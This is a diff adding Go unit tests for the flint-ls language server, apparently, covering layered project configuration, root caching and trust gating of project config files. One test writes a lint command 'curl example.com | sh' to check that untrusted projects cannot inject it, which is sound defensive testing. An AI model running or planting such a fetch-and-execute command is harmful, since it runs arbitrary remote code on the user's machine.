@@ -0,0 +1,116 @@
+package core
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/konradmalik/flint-ls/types"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestProjectConfig(t *testing.T) {
+	base := t.TempDir()
+	project := filepath.Join(base, "project")
+	assert.NoError(t, os.MkdirAll(filepath.Join(project, ".git"), 0o755))
+	projectFile := filepath.Join(project, projectConfigName)
+	inProject := filepath.ToSlash(filepath.Join(project, "cmd", "run.sh"))
+	elsewhere := filepath.ToSlash(filepath.Join(base, "other", "run.sh"))
+	uri := ParseLocalFileToURI(inProject)
+
+	client := map[string][]types.Language{
+		"sh": {{LintCommand: "shellcheck -"}},
+		"go": {{FormatCommand: "gofmt"}},
+	}
+	h := &LangHandler{
+		RootPath:        base,
+		configs:         client,
+		rootMarkers:     []string{".git/"},
+		trustedProjects: []string{base},
+		files:           map[types.DocumentURI]*fileRef{uri: {LanguageID: "sh", NormalizedFilename: inProject, Uri: uri}},
+	}
+
+	// no project file yet
+	assert.Equal(t, client, languagesFor(h, inProject))
+
+	assert.NoError(t, os.WriteFile(projectFile, []byte("languages:\n  sh:\n    - lint-command: shellcheck -x -\n"), 0o644))
+	changed := []types.DocumentURI{ParseLocalFileToURI(projectFile)}
+	h.WorkspaceFilesChanged(changed)
+	layered := map[string][]types.Language{
+		"sh": {{LintCommand: "shellcheck -x -"}},
+		"go": {{FormatCommand: "gofmt"}},
+	}
+	assert.Equal(t, layered, languagesFor(h, inProject))
+	assert.Equal(t, client, languagesFor(h, elsewhere))
+	assert.Equal(t, []scopedConfig{
+		{rootPath: base, configs: client},
+		{rootPath: filepath.ToSlash(project), configs: layered},
+	}, h.scopedConfigs())
+
+	// read again when reported changed
+	assert.NoError(t, os.WriteFile(projectFile, []byte("languages:\n  sh:\n    - lint-command: shellcheck --severity=error -\n"), 0o644))
+	assert.Equal(t, layered, languagesFor(h, inProject))
+	h.WorkspaceFilesChanged(changed)
+	assert.Equal(t, []types.Language{{LintCommand: "shellcheck --severity=error -"}}, languagesFor(h, inProject)["sh"])
+	assert.Equal(t, []types.DocumentURI{uri}, h.DocumentsAffectedBy([]types.FileEvent{{URI: ParseLocalFileToURI(projectFile)}}))
+	assert.Empty(t, h.DocumentsAffectedBy([]types.FileEvent{{URI: ParseLocalFileToURI(filepath.Join(base, projectConfigName))}}))
+
+	// invalid files are ignored
+	assert.NoError(t, os.WriteFile(projectFile, []byte("languages: [\n"), 0o644))
+	h.WorkspaceFilesChanged(changed)
+	assert.Equal(t, client, languagesFor(h, inProject))
+
+	assert.NoError(t, os.Remove(projectFile))
+	h.WorkspaceFilesChanged(changed)
+	assert.Equal(t, client, languagesFor(h, inProject))
+	assert.Len(t, h.scopedConfigs(), 1)
+}
+
+func TestProjectRootCached(t *testing.T) {
+	base := t.TempDir()
+	project := filepath.Join(base, "project")
+	assert.NoError(t, os.MkdirAll(filepath.Join(project, "cmd"), 0o755))
+	inProject := filepath.ToSlash(filepath.Join(project, "cmd", "run.sh"))
+	h := &LangHandler{rootMarkers: []string{".git/"}, trustedProjects: []string{base}}
+
+	assert.Empty(t, h.projectRoot(inProject))
+
+	// roots are looked up again once a change is reported
+	assert.NoError(t, os.Mkdir(filepath.Join(project, ".git"), 0o755))
+	assert.Empty(t, h.projectRoot(inProject))
+	h.WorkspaceFilesChanged([]types.DocumentURI{ParseLocalFileToURI(filepath.Join(project, ".git"))})
+	assert.Equal(t, filepath.ToSlash(project), h.projectRoot(inProject))
+}
+
+func TestUntrustedProjectConfig(t *testing.T) {
+	base := t.TempDir()
+	project := filepath.Join(base, "project")
+	assert.NoError(t, os.MkdirAll(filepath.Join(project, ".git"), 0o755))
+	assert.NoError(t, os.WriteFile(filepath.Join(project, projectConfigName), []byte("languages:\n  sh:\n    - lint-command: curl example.com | sh\n"), 0o644))
+	inProject := filepath.ToSlash(filepath.Join(project, "run.sh"))
+
+	client := map[string][]types.Language{"sh": {{LintCommand: "shellcheck -"}}}
+	rootMarkers := []string{".git/"}
+	h := NewHandler(&types.Config{Languages: &client, RootMarkers: &rootMarkers})
+	h.RootPath = base
+
+	// not read without trusting the project
+	assert.Equal(t, client, languagesFor(h, inProject))
+	assert.Len(t, h.scopedConfigs(), 1)
+
+	for _, trusted := range [][]string{{filepath.Join(base, "other")}, {"project"}} {
+		assert.NoError(t, h.UpdateConfiguration(&types.Config{TrustedProjects: &trusted}))
+		assert.Equal(t, client, languagesFor(h, inProject))
+	}
+
+	trusted := []string{base}
+	assert.NoError(t, h.UpdateConfiguration(&types.Config{TrustedProjects: &trusted}))
+	assert.Equal(t, []types.Language{{LintCommand: "curl example.com | sh"}}, languagesFor(h, inProject)["sh"])
+	assert.Len(t, h.scopedConfigs(), 2)
+
+	// trust can be taken back
+	trusted = []string{}
+	assert.NoError(t, h.UpdateConfiguration(&types.Config{TrustedProjects: &trusted}))
+	assert.Equal(t, client, languagesFor(h, inProject))
+	assert.Len(t, h.scopedConfigs(), 1)
+}